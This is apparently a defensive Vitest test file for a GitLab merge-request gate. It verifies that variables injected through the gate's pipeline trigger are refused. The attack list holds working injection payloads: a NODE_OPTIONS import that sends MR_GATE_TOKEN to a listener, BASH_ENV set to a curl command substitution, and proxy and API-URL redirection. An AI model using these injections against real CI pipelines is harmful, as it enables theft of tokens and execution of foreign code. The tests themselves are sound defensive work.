// @vitest-environment node
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { PROJECTS, TOKENS, USERS } from '../../gitlab/seed-names.ts';
import { english } from '../../support/english.ts';
import { type GatedGroup, gatedGroup } from './gated-group.ts';

let group: GatedGroup;
/** Of somebody who knows the token of the gate's trigger: it listens. */
let evil: Server;
let evilUrl: string;
let heard: string[];

beforeAll(async () => {
  group = await gatedGroup();
  const project = group.project(PROJECTS.checkout);
  await group.apply({
    mode: 'set_default',
    projects: [project],
    settings: { failOn: 'high', scans: ['secret_detection'], perScan: {}, drafts: true },
  });
  await group.gitlab.settled(60_000);
  evil = createServer((request, response) => {
    heard.push(`${request.url} ${JSON.stringify(request.headers)}`);
    response.end('{}');
  });
  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
  evilUrl = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
}, 120_000);
afterAll(async () => {
  await group?.gitlab.close();
  evil?.close();
});
beforeEach(() => {
  heard = [];
});

const gate = () => group.project('acme/mr-gate');
const pipelines = () => group.gitlab.world.pipelines.filter(({ projectId }) => projectId === gate());
const setting = () =>
  group.gitlab.world.projects.find(({ id }) => id === gate())!.pipelineVariablesMinimumRole;
const gateToken = () => group.gitlab.world.variables.find(({ key }) => key === 'MR_GATE_TOKEN')!.value;

/** Calls the trigger as anybody does who has read a webhook's address. */
async function fire(
  variables: Record<string, string>,
  payload: object,
): Promise<{ status: number; text: string }> {
  const { token } = group.gitlab.world.triggers.find(({ projectId }) => projectId === gate())!;
  const query = new URLSearchParams({ token });
  for (const [name, value] of Object.entries(variables)) query.append(`variables[${name}]`, value);
  const answer = await fetch(
    `${group.gitlab.url}/api/v4/projects/${gate()}/ref/main/trigger/pipeline?${query}`,
    {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(payload),
    },
  );
  return { status: answer.status, text: await answer.text() };
}

const event = (iid: number) => ({
  object_kind: 'merge_request',
  object_attributes: { target_project_id: group.project(PROJECTS.checkout), iid },
});

const sendsToken = () =>
  `--import=data:text/javascript,fetch('${evilUrl}/'+process.env.MR_GATE_TOKEN).catch(()=>0)`;

const attacks = (): Record<string, string>[] => [
  { MR_GATE_IMAGE: 'evil.example/node' },
  { MR_GATE_IMAGE_PREFIX: 'evil.example' },
  { NODE_OPTIONS: sendsToken() },
  { NODE_EXTRA_CA_CERTS: '/tmp/evil.pem' },
  { CI_API_V4_URL: `${evilUrl}/api/v4` },
  { CI_SERVER_URL: evilUrl, CI_PIPELINE_SOURCE: 'schedule' },
  { BASH_ENV: `$(curl ${evilUrl})`, ENV: `$(curl ${evilUrl})` },
  { MR_GATE_PROJECT: '1', MR_GATE_MERGE_REQUEST: '1' },
  { TRIGGER_PAYLOAD: '{"variables":{}}' },
  { TRIGGER_PAYLOAD: '{}', NODE_OPTIONS: sendsToken() },
  { HTTPS_PROXY: evilUrl, HTTP_PROXY: evilUrl, http_proxy: evilUrl, NODE_USE_ENV_PROXY: '1' },
];

async function expectAllRefused(reason: RegExp): Promise<void> {
  const before = pipelines().length;
  for (const variables of attacks()) {
    const { status, text } = await fire(variables, event(1));
    expect({ variables, status }).toEqual({ variables, status: 400 });
    expect(text).toMatch(reason);
  }
  await group.gitlab.settled();
  expect(pipelines()).toHaveLength(before);
  expect(heard).toEqual([]);
}

describe('variables that the gate’s trigger is given', () => {
  test('are refused by the project’s setting, and events still start the gate', async () => {
    expect(setting()).toBe('no_one_allowed');
    await expectAllRefused(/Insufficient permissions to set pipeline variables/);
    const iid = await group.openMergeRequest(PROJECTS.checkout, 'by-setting', { 'docs/a.md': 'hello\n' });
    await group.gitlab.settled(120_000);
    expect(await group.verdict(PROJECTS.checkout, iid)).toMatchObject({ state: 'passed' });
  }, 120_000);

  test('are refused by the pipeline’s first rule where GitLab takes the event itself for a variable', async () => {
    group.gitlab.world.exemptsTriggerPayload = false;
    const job = await group.setUp();
    expect(setting()).toBe('maintainer');
    expect(english(job.steps.find(({ key }) => key === 'prove')?.detail ?? '')).toContain(
      'refuses all others',
    );
    await expectAllRefused(/filtered out by workflow rules|Duplicate variable name/);
    const iid = await group.openMergeRequest(PROJECTS.checkout, 'by-rule', { 'docs/b.md': 'hello\n' });
    await group.gitlab.settled(120_000);
    expect(await group.verdict(PROJECTS.checkout, iid)).toMatchObject({ state: 'passed' });
  }, 120_000);

  test('are not seen in the text of an event', async () => {
    const before = pipelines().length;
    // biome-ignore lint/suspicious/noTemplateCurlyInString: what GitLab could take for a variable
    const text = 'It says "variables":{"NODE_OPTIONS":"x"} and \\"variables\\":{\\" and ${CI} $$ %CI%';
    const { status } = await fire(
      {},
      { ...event(9999), description: text, changes: { variables: { is: text } } },
    );
    // A key of that name does not come in GitLab's events: it is refused, which is the safe side.
    expect(status).toBe(400);
    expect((await fire({}, { ...event(9999), description: text })).status).toBe(201);
    await group.gitlab.settled();
    expect(pipelines().length).toBeGreaterThan(before);
  });

  test('would have run foreign code beside the token: without both, this GitLab does it', async () => {
    const { gitlab } = group;
    const file = await group.call<{ content: string }>(
      TOKENS.olgaApi,
      `/projects/${gate()}/repository/files/.gitlab-ci.yml?ref=main`,
    );
    const text = Buffer.from(file.content, 'base64').toString();
    const open = text.replace(/ {4}- if: '\$TRIGGER_PAYLOAD[\s\S]*?when: never\n/, '');
    expect(open).not.toBe(text);
    const change = { project: 'acme/mr-gate', branch: 'main', user: USERS.olga };
    await gitlab.push({ ...change, message: 'Open', files: { '.gitlab-ci.yml': open } });

    expect((await fire({ NODE_OPTIONS: sendsToken() }, event(1))).status).toBe(201);
    await gitlab.settled(60_000);
    expect(heard.join('\n')).toContain(gateToken());

    // What starts no foreign code, the program refuses itself, before it asks anybody anything.
    heard = [];
    expect((await fire({ CI_API_V4_URL: `${evilUrl}/api/v4` }, event(1))).status).toBe(201);
    await gitlab.settled(60_000);
    expect(heard).toEqual([]);
    const last = pipelines().at(-1)!;
    const job = gitlab.world.jobs.find(
      ({ pipelineId, name }) => pipelineId === last.id && name === 'prepare',
    );
    expect(job?.status).toBe('failed');
    expect(job?.trace).toContain('the trigger was given variables (CI_API_V4_URL)');
    await gitlab.push({ ...change, message: 'Close', files: { '.gitlab-ci.yml': text } });
  }, 120_000);
});
